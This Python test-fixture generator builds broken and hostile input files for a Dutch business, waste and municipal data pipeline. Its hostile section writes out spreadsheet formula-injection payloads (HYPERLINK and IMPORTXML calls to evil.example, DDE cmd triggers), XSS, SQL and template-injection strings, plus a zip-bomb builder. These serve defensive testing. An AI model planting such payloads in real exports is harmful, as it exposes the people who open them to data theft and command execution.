"""Regenerate the corpus of deliberately broken landing files and its manifest (cases.csv).

Run from the repo root: `.venv/bin/python tests/bad_inputs/make_corpus.py`. The files are
committed; this script documents how each was made (bytes such as cp1252 or UTF-16 are
easier to produce than to type). Every file holds at least one good row next to the broken
ones, except the whole-file failures, so the test can check good rows survive.

Manifest columns: file, source, expect, args, min_valid, note, where expect is
`quarantine:<rule>` (exit 0, rule counted; parse-level rejects are `parse:<field>`),
`exit:<fragment>` (non-zero exit, fragment in the one-line reason) or `ok`.
"""

from __future__ import annotations

import csv
import gzip
import json
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
FILES = HERE / "files"

EST_HEADER = [
    "vestigingsnummer",
    "kvk_nummer",
    "trade_name",
    "legal_form",
    "is_main",
    "sbi_main",
    "sbi_version",
    "street",
    "house_number",
    "postcode",
    "city",
    "municipality_code",
    "lat",
    "lon",
    "employees",
    "start_date",
    "end_date",
    "active",
]
GOOD_EST = [
    [
        "000038509504",
        "68750110",
        "Koffiebar De Boon B.V.",
        "Besloten Vennootschap",
        "Ja",
        "5610",
        "2008",
        "Langestraat",
        "12",
        "3811AB",
        "Amersfoort",
        "GM0307",
        "52,1563",
        "5,3871",
        "4",
        "20150601",
        "",
        "Ja",
    ],
    [
        "000037178598",
        "69599084",
        "Jan Jansen Paddenstoelen",
        "Eenmanszaak",
        "Ja",
        "0113",
        "2008",
        "Hoefseweg",
        "3",
        "3821AE",
        "Amersfoort",
        "GM0307",
        "52,1701",
        "5,4102",
        "1",
        "20180100",
        "",
        "Ja",
    ],
    [
        "000037178601",
        "68727720",
        "Brouwerij Eem N.V.",
        "Naamloze Vennootschap",
        "Ja",
        "1105",
        "2008",
        "Kleine Koppel",
        "5",
        "3812PG",
        "Amersfoort",
        "GM0307",
        "52,1612",
        "5,3768",
        "25",
        "20100301",
        "",
        "Ja",
    ],
]

LMA_HEADER = [
    "Afvalstroomnummer",
    "VerwerkingsmethodeCode",
    "VerwerkingsOmschrijving",
    "EuralCode",
    "EuralcodeOmschrijving",
    "BenamingAfval",
    "MeldPeriodeJAAR",
    "MeldPeriodeMAAND",
    "Gewicht_KG",
    "Aantal_vrachten",
    "Ontdoener",
    "Ontdoener_Straat",
    "Ontdoener_Huisnr",
    "Ontdoener_Postcode",
    "Ontdoener_Plaats",
    "Ontdoener_Land",
]
GOOD_LMA = [
    [
        "123456789012",
        "B04",
        "Vergisten",
        "200108",
        "biologisch afbreekbaar keukenafval",
        "koffiedik",
        "2025",
        "3",
        "1.250,5",
        "2",
        "Koffiebar De Boon B.V.",
        "Langestraat",
        "12",
        "3811AB",
        "Amersfoort",
        "NL",
    ],
    [
        "123456789013",
        "C01",
        "Hergebruik",
        "020799",
        "niet elders genoemd afval",
        "bierbostel",
        "2025",
        "3",
        "18000",
        "3",
        "Brouwerij Eem N.V.",
        "Kleine Koppel",
        "5",
        "3812PG",
        "Amersfoort",
        "NL",
    ],
    [
        "123456789014",
        "A02",
        "Verbranden",
        "200301",
        "gemengd stedelijk afval",
        "restafval",
        "2025",
        "4",
        "5400",
        "1",
        "Brouwerij Eem N.V.",
        "Kleine Koppel",
        "5",
        "3812PG",
        "Amersfoort",
        "NL",
    ],
]

CASES: list[dict[str, str]] = []


def _csv(rows: list[list[str]], sep: str = ";") -> str:
    return "\n".join(sep.join(r) for r in rows) + "\n"


def add(
    name: str,
    content: str | bytes,
    source: str,
    expect: str,
    note: str,
    min_valid: int = 0,
    args: str = "",
) -> None:
    path = FILES / name
    if isinstance(content, str):
        path.write_text(content, encoding="utf-8", newline="")
    else:
        path.write_bytes(content)
    CASES.append(
        {
            "file": name,
            "source": source,
            "expect": expect,
            "args": args,
            "min_valid": str(min_valid),
            "note": note,
        }
    )


def est(
    bad: list[str] | None = None,
    *,
    change: dict[str, str] | None = None,
    header: list[str] | None = None,
) -> str:
    """Good rows plus one bad row (a copy of a good row with `change` applied)."""
    rows = [list(r) for r in GOOD_EST]
    if change is not None:
        row = [
            "000037178699",
            "68750199",
            "Testbedrijf B.V.",
            "Besloten Vennootschap",
            "Ja",
            "5610",
            "2008",
            "Stadsring",
            "9",
            "3811HN",
            "Amersfoort",
            "GM0307",
            "52,155",
            "5,385",
            "3",
            "20200101",
            "",
            "Ja",
        ]
        for col, value in change.items():
            row[EST_HEADER.index(col)] = value
        rows.append(row)
    if bad is not None:
        rows.append(bad)
    return _csv([header or EST_HEADER, *rows])


def lma(
    change: dict[str, str] | None = None,
    *,
    extra: list[list[str]] | None = None,
    header: list[str] | None = None,
) -> str:
    rows = [list(r) for r in GOOD_LMA]
    if change is not None:
        row = list(GOOD_LMA[0])
        row[0] = "123456789099"
        for col, value in change.items():
            row[LMA_HEADER.index(col)] = value
        rows.append(row)
    rows += extra or []
    return _csv([header or LMA_HEADER, *rows])


def vestigingsprofiel(vest: str, kvk: str, lat: float, lon: float, sbi: str = "10830") -> dict:
    """A Vestigingsprofiel with geoData; SBI 10830 exists in SBI 2008 and 2025 alike."""
    return {
        "vestigingsnummer": vest,
        "kvkNummer": kvk,
        "materieleRegistratie": {"datumAanvang": "20150601"},
        "eersteHandelsnaam": "Koffiebranderij De Eemkade B.V.",
        "indHoofdvestiging": "Ja",
        "totaalWerkzamePersonen": 14,
        "adressen": [
            {
                "type": "bezoekadres",
                "straatnaam": "Utrechtseweg",
                "huisnummer": 10,
                "postcode": "3811NB",
                "plaats": "Amersfoort",
                "land": "Nederland",
                "geoData": {"gpsLatitude": lat, "gpsLongitude": lon},
            }
        ],
        "sbiActiviteiten": [{"sbiCode": sbi, "sbiOmschrijving": "x", "indHoofdactiviteit": "Ja"}],
    }


# The 85984NED fields every Kerncijfers file must carry (issue 14: the dataset gate fails when
# a challenge indicator resolves to nothing): real 2024 keys, invented values.
CBS_FIELDS: tuple[tuple[str, str, str], ...] = (
    ("AantalInwoners_5", "Aantal inwoners", "aantal"),
    ("k_65JaarOfOuder_12", "65 jaar of ouder", "aantal"),
    ("HuishoudensTotaal_29", "Huishoudens totaal", "aantal"),
    ("Eenpersoonshuishoudens_30", "Eenpersoonshuishoudens", "aantal"),
    ("Woningvoorraad_35", "Woningvoorraad", "aantal"),
    ("OnbewoondeWoningen_46", "Onbewoonde woningen", "aantal"),
    ("GemiddeldInkomenPerInwoner_78", "Gemiddeld inkomen per inwoner", "x 1 000 euro"),
    ("PersonenPerSoortUitkeringBijstand_87", "Bijstand", "aantal"),
    ("PersonenPerSoortUitkeringAO_88", "AO", "aantal"),
    ("PersonenPerSoortUitkeringWW_89", "WW", "aantal"),
)


def cbs_v3(rows: list[dict[str, Any]], drop: tuple[str, ...] = ()) -> str:
    props: list[dict[str, Any]] = [
        {"ID": 0, "Type": "GeoDimension", "Key": "WijkenEnBuurten", "Title": "Wijken en buurten"}
    ]
    for n, (key, title, unit) in enumerate(CBS_FIELDS, start=1):
        if key in drop:
            continue
        props.append(
            {"ID": n, "Type": "Topic", "Key": key, "Datatype": "Long", "Unit": unit, "Title": title}
        )
    for row in rows:
        for key in drop:
            row.pop(key, None)
    return json.dumps(
        {
            "format": "cbs-odata-v3",
            "table_id": "85984NED",
            "retrieved_at": "2025-06-01T00:00:00Z",
            "data_properties": props,
            "rows": rows,
        },
        indent=1,
    )


def cbs_row(code: str, inhabitants: Any = 160000, households: Any = 70000) -> dict[str, Any]:
    return {
        "WijkenEnBuurten": code.ljust(10),
        "AantalInwoners_5": inhabitants,
        "k_65JaarOfOuder_12": 26000,
        "HuishoudensTotaal_29": households,
        "Eenpersoonshuishoudens_30": 26000,
        "Woningvoorraad_35": 72000,
        "OnbewoondeWoningen_46": 2900,
        "GemiddeldInkomenPerInwoner_78": 33,
        "PersonenPerSoortUitkeringBijstand_87": 3200,
        "PersonenPerSoortUitkeringAO_88": 7000,
        "PersonenPerSoortUitkeringWW_89": 1900,
    }


def square(lon: float, lat: float, d: float = 0.04) -> dict[str, Any]:
    ring = [
        [lon - d, lat - d],
        [lon + d, lat - d],
        [lon + d, lat + d],
        [lon - d, lat + d],
        [lon - d, lat - d],
    ]
    return {"type": "Polygon", "coordinates": [ring]}


def pdok(features: list[tuple[str, str, dict[str, Any]]]) -> str:
    return json.dumps(
        {
            "type": "FeatureCollection",
            "features": [
                {"type": "Feature", "properties": {"statcode": c, "statnaam": n}, "geometry": g}
                for c, n, g in features
            ],
        },
        indent=1,
    )


def _xlsx_bomb(megabytes: int) -> bytes:
    """A zip shaped like an .xlsx whose one sheet inflates ~1000x."""
    import io
    import zipfile

    row = b"<row><c t='inlineStr'><is><t>0</t></is></c></row>" * 1000
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        with zf.open("xl/worksheets/sheet1.xml", "w") as handle:
            handle.write(b"<worksheet><sheetData>")
            for _ in range(megabytes * 2**20 // len(row)):
                handle.write(row)
            handle.write(b"</sheetData></worksheet>")
    return buffer.getvalue()


# ----------------------------------------------------------------------------- hostile corpus
# tests/bad_inputs/hostile/: a KvK establishments file built to attack the readers of the
# exports and to test the privacy rules, run through the main job next to the sample's
# waste and municipal files (tests/test_pipeline_e2e.py measures what comes out).
HOSTILE = HERE / "hostile"
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
    "=cmd|' /C calc'!A0",
    "+31 cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 tab",
    "\r=1+1 carriage return",
    "\u202e=1+1 bidi override",
    "\u200b=1+1 zero-width space",
    "  =1+1 leading spaces",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]
OTHER_HOSTILE = [
    "<script>alert('xss')</script> Koffie",
    '"><img src=x onerror=alert(1)> Koffie',
    "Koffie \u202egnp.exe\u202c bidi",
    "Koffie \u2066isolate\u2069 \u200f rtl mark",
    "Koffie " + "Lang " * 1200,  # a 6,000-character name
    "Koffie\x00Bar NUL",
    "Koffie; DROP TABLE x; --",
    "Koffie {{7*7}} ${7*7}",
]
# Round 2: a trigger after a separator a spreadsheet splits on (nl-NL Excel: ';'), and
# look-alikes a spreadsheet may fold to a trigger (full-width, small forms, minus sign).
SPLIT_FORMULAS = [
    "Bakkerij;=cmd|' /C calc'!A0;x",
    "Bakkerij,=cmd|' /C calc'!A0,x",
    "Bakkerij\t=cmd|' /C calc'!A0",
    'Bakkerij; "=HYPERLINK(""http://evil.example"")"',
    "Bakkerij;-3,+cmd|' /C calc'!A0",
    '\uff1dHYPERLINK("http://evil.example")',
    "Bakkerij;\uff1d1+1",
    "Bakkerij,\ufe62cmd|' /C calc'!A0",
    "Bakkerij;\u2212cmd|' /C calc'!A0",
]
SOLE_FORMS = [
    "Eenmanszaak",
    "eenmanszaak",
    " EENMANSZAAK ",
    "Eenmanszaak met meer dan één eigenaar",
    "Eenmanszaak met één eigenaar",
    "Vennootschap onder firma",
    "V.O.F.",
    "Maatschap",
    "Commanditaire Vennootschap",
    "Rederij",
    "",
    "Onbekend",
    "Buitenlandse rechtsvorm",
]
HOSTILE_HEADER = [
    "vestigingsnummer",
    "kvk_nummer",
    "trade_name",
    "legal_form",
    "is_main",
    "sbi_main",
    "sbi_version",
    "street",
    "house_number",
    "postcode",
    "city",
    "municipality_code",
    "lat",
    "lon",
    "employees",
    "active",
]


def hostile_rows() -> list[dict[str, str]]:
    """Restaurants (coffee grounds producers) and mushroom growers (receivers) in Amersfoort,
    so every hostile name reaches the candidates; sole proprietors under every legal form,
    each with a person's name and an exact home-like location."""
    rows: list[dict[str, str]] = []

    def row(i: int, name: str, form: str, sbi: str, employees: int) -> dict[str, str]:
        return {
            "vestigingsnummer": f"0009{i:08d}",
            "kvk_nummer": f"9{i:07d}",
            "trade_name": name,
            "legal_form": form,
            "is_main": "Ja",
            "sbi_main": sbi,
            "sbi_version": "2008",
            "street": f"Hostilestraat {i}",
            "house_number": str(i),
            "postcode": "3811AB",
            "city": "Amersfoort",
            "municipality_code": "GM0307",
            "lat": f"{52.150 + i * 0.00071:.6f}",
            "lon": f"{5.380 + i * 0.00093:.6f}",
            "employees": str(employees),
            "active": "Ja",
        }

    i = 1
    for name in FORMULAS + OTHER_HOSTILE:
        rows.append(row(i, name + " B.V.", "Besloten Vennootschap", "5610", 12))
        i += 1
    for k, form in enumerate(SOLE_FORMS):
        person = f"Pieter Privé-Jansen {k:02d}"
        rows.append(row(i, person, form, "5610", 3))
        i += 1
        rows.append(row(i, FORMULAS[k % len(FORMULAS)] + f" {person} Zwammerij", form, "0113", 2))
        i += 1
    rows.append(row(i, '=HYPERLINK("http://evil.example") Zwamkwekerij B.V.', "BV", "0113", 9))
    i += 1
    for k, name in enumerate(SPLIT_FORMULAS):
        rows.append(row(i, name + " B.V.", "Besloten Vennootschap", "5610", 12))
        i += 1
        person = f"Pieter Privé-Jansen {20 + k:02d}"
        rows.append(row(i, f"{person};{name}", "Eenmanszaak", "0113", 2))
        i += 1
    return rows


def build_hostile() -> Path:
    folder = HOSTILE / "kvk"
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "establishments_hostile_20250602T060000.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=HOSTILE_HEADER, delimiter=";")
        writer.writeheader()
        writer.writerows(hostile_rows())
    return path


def build() -> None:
    FILES.mkdir(parents=True, exist_ok=True)
    for old in FILES.iterdir():
        old.unlink()
    # ------------------------------------------------------------------ KvK
    add(
        "kvk_bad_vestigingsnummer.csv",
        est(change={"vestigingsnummer": "00003717869X"}),
        "kvk",
        "quarantine:parse:vestigingsnummer",
        "non-digit in the 12-digit key",
        3,
    )
    add(
        "kvk_kvk_nummer_too_long.csv",
        est(change={"kvk_nummer": "123456789"}),
        "kvk",
        "quarantine:parse:kvk_nummer",
        "9-digit KvK number",
        3,
    )
    add(
        "kvk_duplicate_vestigingsnummer.csv",
        est(change={"vestigingsnummer": "000038509504"}),
        "kvk",
        "quarantine:parse:vestigingsnummer",
        "same establishment twice",
        3,
    )
    add(
        "kvk_unknown_sbi.csv",
        est(change={"sbi_main": "9999"}),
        "kvk",
        "quarantine:sbi_code_known",
        "well-formed SBI code that does not exist",
        3,
    )
    add(
        "kvk_sbi_wrong_version.csv",
        est(change={"sbi_main": "56101", "sbi_version": "2025"}),
        "kvk",
        "quarantine:sbi_code_known",
        "SBI 2008 subclass labelled as SBI 2025",
        3,
    )
    add(
        "kvk_unknown_gm_code.csv",
        est(change={"municipality_code": "GM9999"}),
        "kvk",
        "quarantine:parse:municipality_code",
        "municipality code that does not exist",
        3,
    )
    add(
        "kvk_coordinates_in_sea.csv",
        est(change={"lat": "52,60", "lon": "3,60"}),
        "kvk",
        "quarantine:coordinates_on_land",
        "North Sea west of IJmuiden, inside the bbox",
        3,
    )
    add(
        "kvk_coordinates_in_germany.csv",
        est(change={"lat": "51,45", "lon": "7,01"}),
        "kvk",
        "quarantine:coordinates_on_land",
        "Essen (DE), inside the bbox",
        3,
    )
    add(
        "kvk_latlon_swapped.csv",
        est(change={"lat": "5,387", "lon": "52,156"}),
        "kvk",
        "quarantine:parse:lat",
        "latitude and longitude swapped",
        3,
    )
    add(
        "kvk_future_start_date.csv",
        est(change={"start_date": "20990101"}),
        "kvk",
        "quarantine:start_date_valid",
        "registration in 2099",
        3,
    )
    add(
        "kvk_impossible_date.csv",
        est(change={"start_date": "20151332"}),
        "kvk",
        "quarantine:parse:start_date",
        "month 13, day 32",
        3,
    )
    add(
        "kvk_end_before_start.csv",
        est(change={"end_date": "20000101"}),
        "kvk",
        "quarantine:parse:end_date",
        "ended before it started",
        3,
    )
    add(
        "kvk_negative_employees.csv",
        est(change={"employees": "-3"}),
        "kvk",
        "quarantine:parse:employees",
        "negative head count",
        3,
    )
    add(
        "kvk_absurd_employees.csv",
        est(change={"employees": "250000"}),
        "kvk",
        "quarantine:employees_range",
        "250,000 people at one establishment",
        3,
    )
    add(
        "kvk_bad_postcode.csv",
        est(change={"postcode": "ABCD12"}),
        "kvk",
        "quarantine:parse:postcode",
        "not a Dutch postcode",
        3,
    )
    add(
        "kvk_cp1252_encoding.csv",
        est(change={"trade_name": "Café Één", "city": "Amersfoort"}).encode("cp1252"),
        "kvk",
        "ok",
        "Windows-1252 file (Excel on Dutch Windows) is read, not garbled",
        4,
    )
    add(
        "kvk_utf16_encoding.csv",
        est(change={"trade_name": "Café Één"}).encode("utf-16"),
        "kvk",
        "ok",
        "UTF-16 export (Excel 'Unicode text') is decoded, not garbled",
        4,
    )
    add(
        "kvk_gzip_renamed.csv",
        gzip.compress(est().encode("utf-8"), mtime=0),
        "kvk",
        "exit:binary file",
        "gzip archive saved with a .csv name",
        0,
    )
    add(
        "kvk_missing_key_column.csv",
        _csv(
            [
                [c for c in EST_HEADER if c != "kvk_nummer"],
                *[[v for i, v in enumerate(r) if EST_HEADER[i] != "kvk_nummer"] for r in GOOD_EST],
            ]
        ),
        "kvk",
        "exit:'kvk_nummer' missing",
        "schema drift: key column gone",
        0,
    )
    add("kvk_empty.csv", b"", "kvk", "exit:file is empty", "zero bytes", 0)
    add(
        "kvk_header_only.csv",
        _csv([EST_HEADER]),
        "kvk",
        "exit:no records",
        "header, no data rows",
        0,
    )
    add(
        "kvk_too_many_fields.csv",
        est(bad=[*GOOD_EST[0][:17], "Ja", "extra", "fields"]),
        "kvk",
        "quarantine:parse:row",
        "a row with more fields than the header",
        3,
    )
    add(
        "kvk_html_instead_of_json.json",
        "<!DOCTYPE html><html><head><title>502 Bad Gateway</title></head></html>",
        "kvk",
        "exit:HTML",
        "proxy error page saved as JSON",
        0,
    )
    add(
        "kvk_truncated.json",
        json.dumps([vestigingsprofiel("000050000000", "90001234", 52.1521, 5.3801)])[:-40],
        "kvk",
        "exit:truncated JSON",
        "download cut off",
        0,
    )
    add(
        "kvk_api_bad_record.json",
        json.dumps(
            [
                vestigingsprofiel("000050000000", "90001234", 52.1521, 5.3801),
                vestigingsprofiel("5000000", "90001235", 52.1521, 5.3801),
                vestigingsprofiel("000050000002", "90001236", 52.62, 3.70),
            ],
            indent=1,
        ),
        "kvk",
        "quarantine:parse:vestigingsnummer",
        "API records: one short key, one at sea",
        1,
    )
    add(
        "kvk_api_record_at_sea.json",
        json.dumps(
            [
                vestigingsprofiel("000050000000", "90001234", 52.1521, 5.3801),
                vestigingsprofiel("000050000002", "90001236", 52.62, 3.70),
            ],
            indent=1,
        ),
        "kvk",
        "quarantine:coordinates_on_land",
        "API geoData in the North Sea",
        1,
    )
    add(
        "kvk_volume_drop.csv",
        est(),
        "kvk",
        "exit:row_count_within_band",
        "3 rows where the previous load had 100",
        0,
        args="--previous-rows 100",
    )
    bulk_header = (
        '"Datum aanvang";"Actief";"Insolventie";"Rechtsvorm";"Postcode regio";'
        '"SBI activiteiten";"Hoofdactiviteiten";"Lidstaat"\n'
    )
    bulk_good = (
        '"20150601";"Ja";"Nee";"Besloten Vennootschap";"38";"5610";"5610";"NL"\n'
        '"20100301";"Ja";"Nee";"Naamloze Vennootschap";"38";"1105";"1105";"NL"\n'
    )
    add(
        "kvk_bulk_bad_region.csv",
        bulk_header + bulk_good + '"20200101";"Ja";"Nee";"Besloten Vennootschap";"3A";'
        '"5610";"5610";"NL"\n',
        "kvk",
        "quarantine:parse:Postcode regio",
        "open-data bulk file: postcode region is not 2 digits",
        2,
    )
    add(
        "kvk_bulk_unknown_sbi.csv",
        bulk_header + bulk_good + '"20200101";"Ja";"Nee";"Besloten Vennootschap";"38";'
        '"9999";"9999";"NL"\n',
        "kvk",
        "quarantine:sbi_code_known",
        "open-data bulk file: SBI code in neither version",
        2,
    )
    # ------------------------------------------------------------------ waste (LMA)
    add(
        "lma_unknown_eural.csv",
        lma({"EuralCode": "199999"}),
        "waste",
        "quarantine:eural_code_known",
        "well-formed EURAL code that is not in the list",
        3,
    )
    add(
        "lma_eural_not_a_code.csv",
        lma({"EuralCode": "koffiedik"}),
        "waste",
        "quarantine:parse:EuralCode",
        "text where the code belongs",
        3,
    )
    add(
        "lma_negative_weight.csv",
        lma({"Gewicht_KG": "-150"}),
        "waste",
        "quarantine:parse:Gewicht_KG",
        "negative weight",
        3,
    )
    add(
        "lma_absurd_weight.csv",
        lma({"Gewicht_KG": "5000000000"}),
        "waste",
        "quarantine:weight_plausible",
        "5 million tonnes of coffee grounds in a month",
        3,
    )
    add(
        "lma_month_13.csv",
        lma({"MeldPeriodeMAAND": "13"}),
        "waste",
        "quarantine:parse:MeldPeriodeMAAND",
        "month 13",
        3,
    )
    add(
        "lma_future_period.csv",
        lma({"MeldPeriodeJAAR": "2099"}),
        "waste",
        "quarantine:period_year_plausible",
        "reporting year 2099",
        3,
    )
    add(
        "lma_old_period.csv",
        lma({"MeldPeriodeJAAR": "1995"}),
        "waste",
        "quarantine:period_year_plausible",
        "reporting year before the extracts start",
        3,
    )
    add(
        "lma_duplicate_key.csv",
        lma(extra=[list(GOOD_LMA[2])]),
        "waste",
        "quarantine:record_key_unique",
        "same stream and month twice",
        2,
    )
    add(
        "lma_bad_afvalstroomnummer.csv",
        lma({"Afvalstroomnummer": "AB-1234"}),
        "waste",
        "quarantine:parse:Afvalstroomnummer",
        "neither 12 characters nor a 5-digit verwerkersnummer",
        3,
    )
    add(
        "lma_bad_processing_code.csv",
        lma({"VerwerkingsmethodeCode": "R1"}),
        "waste",
        "quarantine:processing_code_format",
        "EU R-code instead of an LMA method code",
        3,
    )
    add(
        "lma_foreign_postcode_as_nl.csv",
        lma({"Ontdoener_Postcode": "ZZ9 9ZZ"}),
        "waste",
        "quarantine:parse:Ontdoener_Postcode",
        "garbage postcode for a Dutch party",
        3,
    )
    add(
        "lma_missing_weight_column.csv",
        _csv(
            [
                [c for c in LMA_HEADER if c != "Gewicht_KG"],
                *[[v for i, v in enumerate(r) if LMA_HEADER[i] != "Gewicht_KG"] for r in GOOD_LMA],
            ]
        ),
        "waste",
        "exit:'Gewicht_KG' missing",
        "schema drift: weight column gone",
        0,
    )
    add(
        "lma_unclosed_quote.csv",
        lma() + '123456789015;B04;"Vergisten;200108\n',
        "waste",
        "exit:quoted field",
        "file ends inside a quoted field",
        0,
    )
    add(
        "lma_broken.xlsx",
        b"PK\x03\x04 this is not really a workbook",
        "waste",
        "exit:unreadable .xlsx",
        "corrupt spreadsheet",
        0,
    )
    # ------------------------------------------------------------------ municipal (CBS/PDOK)
    add(
        "cbs_unknown_region_type.json",
        cbs_v3([cbs_row("GM0307"), cbs_row("XX1234")]),
        "municipal",
        "quarantine:parse:WijkenEnBuurten",
        "region code of no known kind",
        2,
    )
    add(
        "cbs_not_a_number.json",
        cbs_v3([cbs_row("GM0307"), cbs_row("GM0308", inhabitants="veel")]),
        "municipal",
        "quarantine:parse:AantalInwoners_5",
        "text in a numeric field",
        3,
    )
    add(
        "cbs_negative_value.json",
        cbs_v3([cbs_row("GM0307"), cbs_row("GM0308", households=-12)]),
        "municipal",
        "quarantine:value_non_negative",
        "negative household count",
        3,
    )
    add(
        "cbs_unknown_gm_code.json",
        cbs_v3([cbs_row("GM0307"), cbs_row("GM9999")]),
        "municipal",
        "quarantine:municipality_code_known",
        "municipality that does not exist",
        2,
    )
    add(
        "cbs_region_not_covered.json",
        cbs_v3([cbs_row("GM0307"), cbs_row("GM0308")]),
        "municipal",
        "exit:covers_region_municipalities",
        "region regio-amersfoort has 10 municipalities, file has 2",
        0,
        args="--region regio-amersfoort",
    )
    add(
        "cbs_wrong_format.json",
        json.dumps({"format": "csv", "rows": []}),
        "municipal",
        "exit:field 'format'",
        "not a CBS bundle",
        0,
    )
    add(
        "cbs_html_error.json",
        "<html><body><h1>503 Service Unavailable</h1></body></html>",
        "municipal",
        "exit:HTML",
        "HTML instead of JSON",
        0,
    )
    add(
        "pdok_centroid_in_sea.geojson",
        pdok(
            [
                ("GM0307", "Amersfoort", square(5.39, 52.16)),
                ("GM0308", "Baarn", square(3.50, 52.70)),
            ]
        ),
        "municipal",
        "quarantine:coordinates_on_land",
        "polygon drawn in the North Sea",
        1,
    )
    add(
        "pdok_rd_coordinates.geojson",
        pdok(
            [
                ("GM0307", "Amersfoort", square(5.39, 52.16)),
                ("GM0308", "Baarn", square(149500.0, 468500.0, 1000.0)),
            ]
        ),
        "municipal",
        "ok",
        "RD New metres (PDOK ignored srsName): converted to WGS84, not lost",
        2,
    )
    add(
        "pdok_latlon_swapped.geojson",
        pdok(
            [
                ("GM0307", "Amersfoort", square(5.39, 52.16)),
                ("GM0308", "Baarn", square(52.21, 5.29)),
            ]
        ),
        "municipal",
        "ok",
        "latitude/longitude axis order: swapped back, not lost",
        2,
    )
    add(
        "pdok_outside_nl.geojson",
        pdok(
            [
                ("GM0307", "Amersfoort", square(5.39, 52.16)),
                ("GM0308", "Baarn", square(2.35, 48.86)),
            ]
        ),
        "municipal",
        "quarantine:parse:geometry",
        "Paris: outside the Netherlands as lon/lat, lat/lon and RD New",
        1,
    )
    add(
        "cbs_vacancy_missing.json",
        cbs_v3(
            [cbs_row("GM0307"), cbs_row("GM0308")],
            drop=("OnbewoondeWoningen_46", "Woningvoorraad_35"),
        ),
        "municipal",
        "exit:challenge_indicators_resolved",
        "no vacancy field (2024 lost PercentageOnbewoond): vacancy resolves to nothing",
    )
    add(
        "cbs_83558NED_regiokenmerken.json",
        json.dumps(
            {
                "format": "cbs-odata-v3",
                "table_id": "83558NED",
                "data_properties": [
                    {"ID": 0, "Type": "Dimension", "Key": "Regiokenmerken"},
                    {"ID": 1, "Type": "TimeDimension", "Key": "Perioden"},
                    {
                        "ID": 2,
                        "Type": "Topic",
                        "Key": "TotaalHuishoudelijkAfval_2",
                        "Datatype": "Double",
                        "Unit": "1 000 ton",
                    },
                ],
                "rows": [
                    {"Regiokenmerken": c, "Perioden": "2023JJ00", "TotaalHuishoudelijkAfval_2": 9.0}
                    for c in ("NL01    ", "PV26    ")
                ],
            },
            indent=1,
        ),
        "municipal",
        "exit:holds no municipality",
        "83558NED: national, landsdelen, provinces only (per municipality: 83452NED)",
    )
    add(
        "lma_afvalstroomnummer_letters.csv",
        lma(extra=[["10422AB00001", *GOOD_LMA[0][1:]]]),
        "waste",
        "ok",
        "letters in the 7 freely chosen characters are a valid afvalstroomnummer",
        4,
    )
    add(
        "lma_real_house_number_columns.csv",
        lma(header=[c.replace("Ontdoener_Huisnr", "Ontdoener_Huisnummer") for c in LMA_HEADER]),
        "waste",
        "ok",
        "Ontdoener_Huisnummer (as real extracts spell it) is read, not silently emptied",
        3,
    )
    add(
        "lma_unknown_house_number_column.csv",
        lma(header=[c.replace("Ontdoener_Huisnr", "Ontdoener_HuisNo") for c in LMA_HEADER]),
        "waste",
        "exit:unknown spelling of a house-number column",
        "a house-number column spelled in an unknown way stops the file",
    )
    add(
        "lma_party_without_address.csv",
        _csv(
            [
                [c for c in LMA_HEADER if c == "Ontdoener" or not c.startswith("Ontdoener")],
                *[
                    [
                        v
                        for c, v in zip(LMA_HEADER, r, strict=True)
                        if c == "Ontdoener" or not c.startswith("Ontdoener")
                    ]
                    for r in GOOD_LMA
                ],
            ]
        ),
        "waste",
        "exit:none of its address columns",
        "party Ontdoener named but none of its address columns present",
    )
    add(
        "pdok_bad_statcode.geojson",
        pdok(
            [("GM0307", "Amersfoort", square(5.39, 52.16)), ("0308", "Baarn", square(5.29, 52.21))]
        ),
        "municipal",
        "quarantine:parse:statcode",
        "statcode without the GM prefix",
        1,
    )
    add(
        "kvk_deeply_nested.json",
        "[" * 100_000 + "]" * 100_000,
        "kvk",
        "exit:nested too deeply",
        "JSON nested 100,000 levels deep (RecursionError used to stop the whole landing step)",
    )
    add(
        "lma_xlsx_bomb.xlsx",
        _xlsx_bomb(40),
        "waste",
        "exit:zip bomb",
        "a 40 KB workbook whose sheet XML inflates to 40 MB (1000x)",
    )
    with (HERE / "cases.csv").open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(
            fh, fieldnames=["file", "source", "expect", "args", "min_valid", "note"]
        )
        writer.writeheader()
        writer.writerows(CASES)


if __name__ == "__main__":
    build()
    print(f"{len(CASES)} cases written to {HERE / 'cases.csv'}")
    print(f"hostile KvK file: {build_hostile()}")
